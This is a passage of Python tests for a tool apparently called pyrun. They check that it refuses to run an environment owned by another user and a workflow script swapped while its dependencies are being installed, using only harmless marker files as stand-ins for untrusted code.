    """.python-envs can name environments anywhere (PEP 832): one another user owns is listed
    with its error, and pyrun wsp run refuses it, its python not run (issue 22, point 1)."""
    project, config = wsp_project(tmp_path), tmp_path / "config"
    theirs, ran = tmp_path / "theirs", tmp_path / "their-python-ran"
    (theirs / "bin").mkdir(parents=True)
    (theirs / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.7\n")
    write(theirs / "bin" / "python", f"#!/bin/sh\ntouch {ran}\n").chmod(0o755)
    (project / ".python-envs").write_text(f"{theirs}\n")
    owned_by_other(theirs / "bin")
    listed = pyrun("wsp", "environment/list", cwd=project, PYRUN_CONFIG_DIR=str(config),
                   VIRTUAL_ENV="")
    assert listed.returncode == 0, listed.stderr
    (item,) = json.loads(listed.stdout)
    assert f"uid {OTHER_UID}" in item["error"], item
    out = pyrun("wsp", "run", "--env", str(theirs), "--", "python", "-c", "1", cwd=project,
                PYRUN_CONFIG_DIR=str(config), VIRTUAL_ENV="")
    assert out.returncode != 0 and f"uid {OTHER_UID}" in out.stderr, out.stderr
    assert "Traceback" not in out.stderr and not ran.exists()


def test_a_script_swapped_while_its_environment_is_built_is_not_run(
        pyrun: Runner, tmp_path: Path) -> None:
    """The bytes agreed to are the bytes run (issue 22, point 2): the script is swapped while
    uv fetches its dependency from an index on the loopback interface (a build can take
    minutes): the environment comes from the agreed bytes and the swapped script is refused
    (77) before anything of it runs."""
    from tests.loopback import serve_index, wheel

    project, config, ran = wsp_project(tmp_path), tmp_path / "config", tmp_path / "evil-ran"
    script = project / "wf.py"

    def swap(path: str) -> None:
        if path.rstrip("/") == "/simple/pinnedpkg":
            write(script, f"open({str(ran)!r}, 'w')\n")

    (project / "pyproject.toml").write_text('[workflow]\nwsp = {script = "./wf.py"}\n')
    with serve_index({"pinnedpkg": [wheel("pinnedpkg", "1.0")]}, before=swap) as url:
        write(script, '# /// script\n# dependencies = ["pinnedpkg"]\n# ///\nimport sys\n'
                      'sys.exit(3)\n')
        out = pyrun("wsp", "--trust", "environment/list", cwd=project,
                    PYRUN_CONFIG_DIR=str(config), UV_INDEX_URL=url)
    assert_fails(out, 77, "changed while pyrun prepared it")
    assert not ran.exists() and "open(" in script.read_text()
